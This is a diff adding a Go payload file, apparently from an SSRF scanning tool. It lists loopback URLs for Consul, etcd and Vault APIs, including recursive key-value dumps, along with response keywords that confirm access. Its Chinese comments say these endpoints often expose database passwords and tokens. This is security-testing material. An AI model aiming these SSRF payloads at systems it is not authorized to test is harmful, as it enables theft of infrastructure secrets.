@@ -0,0 +1,42 @@
+package payloads
+
+// 服务发现、配置中心和密钥管理服务的payload类型
+const (
+	TypeConsul = "Consul API"
+	TypeEtcd   = "etcd API"
+	TypeVault  = "Vault API"
+)
+
+// KVListingKeywords Consul KV 和 etcd v2 键值列表中的字段，命中时说明可以直接读取存储的配置（通常包含数据库密码、令牌等）
+var KVListingKeywords = []string{"LockIndex", "createdIndex", "modifiedIndex"}
+
+// infraEndpoints Consul（8500）、etcd（2379）和 Vault（8200）的接口及对应的响应特征
+// 都是默认不需要认证即可访问的接口，Vault 的 seal-status 和 health 用于判断是否已解封
+var infraEndpoints = []struct {
+	url      string
+	typ      string
+	keywords []string
+}{
+	{"http://127.0.0.1:8500/v1/agent/self", TypeConsul, []string{"NodeName", "Datacenter"}},
+	{"http://127.0.0.1:8500/v1/kv/?recurse", TypeConsul, []string{"LockIndex"}},
+	{"http://127.0.0.1:8500/v1/catalog/nodes", TypeConsul, []string{"TaggedAddresses"}},
+	{"http://127.0.0.1:2379/version", TypeEtcd, []string{"etcdserver", "etcdcluster"}},
+	{"http://127.0.0.1:2379/v2/keys/?recursive=true", TypeEtcd, []string{"createdIndex", "modifiedIndex"}},
+	{"http://127.0.0.1:2379/v2/members", TypeEtcd, []string{"peerURLs", "clientURLs"}},
+	{"http://127.0.0.1:8200/v1/sys/seal-status", TypeVault, []string{"sealed", "recovery_seal"}},
+	{"http://127.0.0.1:8200/v1/sys/health", TypeVault, []string{"performance_standby", "replication_dr_mode"}},
+	{"http://127.0.0.1:8200/v1/sys/leader", TypeVault, []string{"ha_enabled", "leader_address"}},
+}
+
+// GetInfraPayloads 获取 Consul、etcd 和 Vault 内部API payload（默认扫描）
+func GetInfraPayloads() []Payload {
+	result := make([]Payload, 0, len(infraEndpoints))
+	for _, endpoint := range infraEndpoints {
+		result = append(result, Payload{
+			Value:    endpoint.url,
+			Type:     endpoint.typ,
+			Keywords: endpoint.keywords,
+		})
+	}
+	return result
+}